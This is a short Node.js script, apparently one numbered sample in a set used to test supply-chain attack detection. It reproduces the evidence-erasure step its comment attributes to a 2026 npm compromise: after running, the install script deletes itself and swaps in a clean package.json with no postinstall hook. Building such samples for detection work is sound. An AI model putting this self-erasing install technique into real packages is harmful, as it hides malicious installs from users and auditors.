// P20 in Node, like plain-crypto-js 4.2.1 (the axios compromise, 2026): once the payload has run,
// erase the evidence — delete this install script and replace package.json with a clean copy that
// has no postinstall, so `npm ls` and a later look at node_modules show nothing.
const fs = require('fs');
const path = require('path');
const clean = { name: 'p20-self-swap-node', version: '1.0.0', description: 'Crypto helpers.' };
fs.writeFileSync(path.join(__dirname, 'package.md'), JSON.stringify(clean, null, 2));
fs.unlinkSync(__filename);
fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
